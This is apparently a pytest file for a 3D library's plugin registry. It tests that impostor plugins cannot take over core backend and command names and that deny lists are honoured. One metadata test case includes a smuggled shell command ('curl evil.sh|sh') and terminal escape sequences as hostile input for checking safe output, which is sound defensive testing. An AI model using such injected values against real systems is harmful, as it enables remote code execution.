"""Names: what the core ships cannot be taken, and two distributions of one name are told apart."""

from __future__ import annotations

import json
import shutil

import pytest

from forge3d_core.errors import PluginFailed, UsageError
from forge3d_core.plugins import discover, normalise
from forge3d_core.plugins.own import BACKENDS, COMMANDS
from forge3d_core.plugins.registry import Registry

MARKED = "from {module}.tiny import *\nplugin = plugin(TinyBackend({name!r}))"


@pytest.mark.parametrize("name", ["host", "HOST", "host_", "\u212aost"])
def test_nothing_takes_host_away(site, name):
    site.install("impostor", entry_points=f"[forge3d.backends]\n{name} = {{module}}:plugin\n")
    done = site.cli("backends", "--json")
    told = {backend["name"]: backend for backend in json.loads(done.stdout)["backends"]}
    assert told["host"]["state"] == "available"
    assert told["host"]["distributions"][0]["name"] == "forge3d-core"
    if name.isascii() and normalise(name) == "host":
        assert any("forge3d-impostor 1.0" in note for note in told["host"]["notes"])
    opened = site.run("-c", "import forge3d_core as f; print(f.open_device('host').info.backend)")
    assert opened.stdout == "host\n", opened.stderr
    assert not site.ran("impostor")


@pytest.mark.parametrize("distribution", ["forge3d-core", "forge3d-wgpu", "evil"])
@pytest.mark.parametrize("name", ["host", "wgpu"])
def test_a_distribution_that_calls_itself_ours_is_told_and_takes_nothing(site, name, distribution):
    site.install(
        "evil", distribution=distribution, entry_points=f"[forge3d.backends]\n{name} = {{module}}:plugin\n"
    )
    offered = Registry().candidates()[name]
    sound = [c for c in offered if c.problem is None]
    assert [c.package for c in sound] == [{"host": "forge3d_core", "wgpu": "forge3d_wgpu"}[name]]
    (impostor,) = [c for c in offered if c.problem]
    assert f"{name!r} is the name that" in impostor.problem
    assert Registry().find(name) is not impostor
    assert not site.ran("evil")


def test_two_distributions_of_one_name_and_other_code_load_neither(site):
    site.install("evil", distribution="twin")
    site.install("good", distribution="other", entry_points="[forge3d.backends]\nevil = {module}:plugin\n")
    info = site.folder / "other-1.0.dist-info"
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: twin\nVersion: 2.0\n", "utf-8")
    with pytest.raises(
        PluginFailed, match=r"of the same name offer.*twin 1\.0 .*twin 2\.0|twin 2\.0 .*twin 1\.0"
    ):
        Registry().load("evil")
    assert not site.ran("evil")
    assert not site.ran("good")


def test_an_installation_that_another_hides_is_told(site):
    site.install("one")
    stale = site.folder / "forge3d_one-0.9.dist-info"
    shutil.copytree(site.folder / "forge3d_one-1.0.dist-info", stale)
    (stale / "METADATA").write_text("Metadata-Version: 2.1\nName: forge3d-one\nVersion: 0.9\n", "utf-8")
    (candidate,) = [c for c in discover() if c.name == "one"]
    assert len(candidate.shadows) == 1
    assert candidate.version == "0.9"  # by the folder's name, whatever order the disk has
    status = Registry().status("one")
    assert any("hides forge3d-one 1.0" in note for note in status.notes)


@pytest.mark.parametrize("name", ["host", "Host", "auto"])
def test_a_program_registers_nothing_under_a_name_of_the_core(site, name):
    with pytest.raises(UsageError, match="the core's own name"):
        Registry(discovery=tuple).register(site.tiny(name))


@pytest.mark.parametrize(
    "metadata",
    [
        "Name: x; curl evil.sh|sh #\nVersion: 1.0",
        "Name: b\x1b[31mad\nVersion: 1.0\x1b]0;PWNED\x07",
        "Name: " + "big" * 100_000 + "\nVersion: 1",
        "Name: odd\nVersion: 1.0\nRequires-Dist: " + "x" * 5_000_000,
    ],
    ids=["command", "escapes", "endless-name", "endless-requirement"],
)
def test_metadata_of_any_kind_is_told_in_printable_words(site, metadata):
    site.install("odd", "import no_such_library")
    info = site.folder / "forge3d_odd-1.0.dist-info"
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\n{metadata}\n", "utf-8")
    done = site.cli("backends")
    assert done.returncode == 0
    assert all(line.isprintable() and len(line) < 5000 for line in done.stdout.splitlines())
    fixes = [line for line in done.stdout.splitlines() if "fix:" in line]
    assert not any("curl" in line for line in fixes)
    assert any(line.startswith("host  available") for line in done.stdout.splitlines())


@pytest.mark.parametrize(
    ("listed", "offers"),
    [("forge3d-evil", "evil"), ("evil", "evil"), ("evil-cmd", "evil"), ("FORGE3D_Evil", "evil")],
)
def test_a_denied_distributions_command_does_not_run(site, listed, offers):
    points = (
        f"[forge3d.backends]\n{offers} = {{module}}:plugin\n[forge3d.commands]\nevil-cmd = {{module}}:run\n"
    )
    site.install("evil", MARKED + "\ndef run(): print('ran')\n", entry_points=points)
    for arguments in (("evil-cmd",), ("evil-cmd", "--help"), ("--help",), ("backends",)):
        site.cli(*arguments, FORGE3D_DENY=f"wgpu,cuda,{listed}")
        if listed != "evil-cmd" or arguments != ("backends",):
            assert not site.ran("evil"), arguments
    done = site.cli("evil-cmd", FORGE3D_DENY=f"wgpu,cuda,{listed}")
    assert done.returncode == 2
    assert f"the deny list names {normalise(listed)}" in done.stderr
    kept_out = site.cli("evil-cmd", FORGE3D_ALLOW="host")
    assert kept_out.returncode == 2
    allowed = site.cli("evil-cmd", FORGE3D_ALLOW="host,evil")
    assert allowed.stdout == "ran\n", allowed.stderr


@pytest.mark.parametrize("command", ["conformance", "verify", "diff", "new-backend", "backends", "demo"])
def test_a_command_of_ours_cannot_be_taken(site, command):
    site.install("evil", entry_points=f"[forge3d.commands]\n{command} = {{module}}:run\n")
    done = site.cli(command, "--help")
    assert done.returncode == 0, done.stderr
    assert f"Usage: forge3d {command}" in done.stdout
    assert not site.ran("evil")


def test_a_variable_that_would_keep_nothing_out_is_refused(site):
    for variable, near in (
        ("FORGE3D_DENIED", "FORGE3D_DENY"),
        ("FORGE3D_PLUGINS_DENY", "FORGE3D_DENY"),
        ("FORGE3D_ALOW", "FORGE3D_ALLOW"),
        ("FORGE3D_AUTO_LOAD", "FORGE3D_AUTOLOAD"),
    ):
        done = site.cli("explain", **{variable: "x"})
        assert done.returncode == 2
        assert f"environment variable {variable} has no effect; did you mean {near}?" in done.stderr
    done = site.cli("explain", FORGE3D_METAL_LEVEL="3")
    assert done.returncode == 0, done.stderr
    assert "FORGE3D_METAL_LEVEL has no effect" in done.stderr


def test_the_names_of_ours_are_those_that_our_distributions_offer():
    for group, owners in (("forge3d.backends", BACKENDS), ("forge3d.commands", COMMANDS)):
        offered = {c.name: (normalise(c.distribution), c.package) for c in discover(group, {})}
        owned = {name: (owner.distribution, owner.package) for name, owner in owners.items()}
        ours = {name for name, (_, package) in offered.items() if package.startswith("forge3d_")}
        assert ours
        assert {name: offered[name] for name in ours} == {name: owned[name] for name in ours}
